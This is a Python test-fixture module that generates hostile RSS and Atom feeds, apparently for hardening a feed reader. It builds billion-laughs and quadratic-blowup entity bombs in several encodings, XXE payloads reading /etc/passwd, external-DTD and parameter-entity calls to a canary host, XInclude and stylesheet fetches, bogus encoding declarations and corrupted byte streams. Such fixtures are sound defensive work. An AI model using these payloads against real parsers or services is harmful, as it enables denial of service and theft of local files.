"""Feeds with hostile entities and encodings, and what other modules make feeds of.

Each public function that asks for nothing returns a feed, and is named by its defect.

Sizes are those that a fetcher lets through (8 MiB), or just below a limit of the parsers.
"""

import random
from html import escape

from hostile import xss

MIB = 1 << 20
MAX = 8 * MIB
PROLOG = '<?xml version="1.0" encoding="utf-8"?>\n'
RSS = (
    '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/" '
    'xmlns:georss="http://www.georss.org/georss" xmlns:gml="http://www.opengis.net/gml" '
    'xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:a="http://www.w3.org/2005/Atom">'
    "<channel><title>Hostile</title><link>https://news.example/</link>"
)
END = "</channel></rss>"
TEXT = "<p>" + "The boats were counted again and found to be too many for the quay. " * 12 + "</p>"


def rss(*parts: str, end: str = END) -> bytes:
    """Return a feed of `parts`, which are items or anything else."""
    return (PROLOG + RSS + "".join(parts) + end).encode("utf-8", "surrogatepass")


def item(number: int, *more: str, html: str = TEXT, link: str = "") -> str:
    """Return an item whose body is `html`, with other elements behind."""
    link = link or f"https://news.example/{number}"
    return (
        f"<item><title>Story {number}</title><link>{escape(link)}</link><guid>{number}</guid>"
        f"<content:encoded>{escape(html)}</content:encoded>{''.join(more)}</item>"
    )


def filled(unit: str, size: int = MAX - 2000) -> str:
    """Return `unit` as often as it fits into `size` characters."""
    return unit * (size // len(unit))


def in_item(text: str) -> bytes:
    """Return a feed with one honest item and one that holds `text`."""
    return rss(item(1), item(2, text))


def body(html: str) -> bytes:
    """Return a feed with an honest item, one with the body `html`, and one that follows it."""
    return rss(item(1), item(2, html=html + TEXT), item(3))


def atom(inside: str) -> bytes:
    """Return a feed of Atom with one entry, which holds `inside`."""
    return (
        f'{PROLOG}<feed xmlns="http://www.w3.org/2005/Atom"><title>Hostile</title>'
        f'<entry><id>urn:1</id><title>One</title><link href="https://news.example/1"/>{inside}</entry>'
        "</feed>"
    ).encode()


# Entities.


def billion_laughs() -> bytes:
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    type_ = f'<!DOCTYPE rss [<!ENTITY l0 "lol">{rows}]>'
    return f"{PROLOG}{type_}{RSS}<item><title>&l9;</title></item>{END}".encode()


def billion_laughs_in_utf_16() -> bytes:
    return billion_laughs().decode().replace('encoding="utf-8"', "").encode("utf-16")


def billion_laughs_in_utf_16_without_a_mark() -> bytes:
    return billion_laughs().decode().replace("utf-8", "utf-16").encode("utf-16-be")


def billion_laughs_in_utf_32() -> bytes:
    return billion_laughs().decode().replace("utf-8", "utf-32").encode("utf-32")


def billion_laughs_in_utf_7() -> bytes:
    text = billion_laughs().decode().replace("utf-8", "utf-7")
    return text.replace("<!", "+ADwAIQ-").encode()


def billion_laughs_in_ebcdic() -> bytes:
    return billion_laughs().decode().replace("utf-8", "cp037").encode("cp037")


def quadratic_blowup() -> bytes:
    entity = f'<!DOCTYPE rss [<!ENTITY a "{"a" * 100_000}">]>'
    return f"{PROLOG}{entity}{RSS}<item><title>{'&a;' * 50_000}</title></item>{END}".encode()


def external_entity() -> bytes:
    entity = '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return f"{PROLOG}{entity}{RSS}<item><title>&a;</title></item>{END}".encode()


def external_document_type() -> bytes:
    type_ = f'<!DOCTYPE rss SYSTEM "http://{xss.CANARY}/x.dtd">'
    return f"{PROLOG}{type_}{RSS}{item(1)}{END}".encode()


def parameter_entities() -> bytes:
    type_ = (
        f'<!DOCTYPE rss [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://'
        f'{xss.CANARY}/d.dtd">%d;]>'
    )
    return f"{PROLOG}{type_}{RSS}{item(1)}{END}".encode()


def entities_behind_a_bracket_in_quotes() -> bytes:
    type_ = '<!DOCTYPE rss SYSTEM "a>b[" [<!--]>--><!ENTITY a "b">]>'
    return f"{PROLOG}{type_}{RSS}<item><title>&a;</title></item>{END}".encode()


def attribute_lists() -> bytes:
    type_ = '<!DOCTYPE rss [<!ATTLIST item x CDATA "' + "y" * MIB + '">]>'
    return f"{PROLOG}{type_}{RSS}{item(1) * 400}{END}".encode()


def inclusions() -> bytes:
    return in_item(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
        f'parse="text"/><?xml-stylesheet href="http://{xss.CANARY}/x.xsl" type="text/xsl"?>'
    )


# Encodings.


def declared_as_a_compression() -> bytes:
    return rss(item(1)).replace(b"utf-8", b"zlib_codec")


def declared_as_escapes() -> bytes:
    return rss(item(1, "<a>\\ud800\\x3c</a>")).replace(b"utf-8", b"unicode_escape")


def declared_as_punycode() -> bytes:
    return rss(item(1), "é" * 20_000).replace(b"utf-8", b"punycode")


def declared_as_utf_16() -> bytes:
    return rss(item(1)).replace(b"utf-8", b"utf-16")


def declared_as_what_does_not_exist() -> bytes:
    return rss(item(1)).replace(b"utf-8", b"x" * 2000)


def one_emoji_makes_every_copy_wide() -> bytes:
    return rss(item(1), item(2, html="👩" + "<p>word</p>" * 49_000 + "x" * 3 * MIB))


def chinese_of_eight_megabytes() -> bytes:
    return rss(*(item(n, html=f"<p>{'汉' * 5000}</p>") for n in range(480)))


def noise() -> bytes:
    return rss(item(1)) + random.Random(1).randbytes(2 * MIB)


def bytes_that_change_places() -> bytes:
    whole = rss(*(item(n) for n in range(50)))
    places = list(range(200, len(whole), 97))
    chance = random.Random(2)
    return bytes(
        chance.randrange(256) if n in set(places) else b for n, b in enumerate(whole[:20_000])
    )
